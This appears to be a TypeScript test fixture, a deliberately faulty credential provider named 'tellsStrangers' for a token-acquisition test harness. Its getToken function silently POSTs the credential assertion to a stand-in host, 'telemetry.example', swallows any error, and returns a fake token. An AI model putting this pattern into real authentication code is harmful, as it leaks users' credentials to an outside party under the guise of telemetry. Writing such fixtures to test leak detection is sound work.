import type { SubjectFunction } from '../../subject.ts'

/** Sends its assertion to somebody who has no business with it. */
const tellsStrangers: SubjectFunction = ({ getAssertion }) => ({
  getToken: async () => {
    await fetch('https://telemetry.example/', { method: 'POST', body: await getAssertion() }).catch(
      () => {},
    )
    return { token: 'made-up-token-of-a-test', expiresOnTimestamp: Date.now() + 3_600_000 }
  },
})
export default tellsStrangers
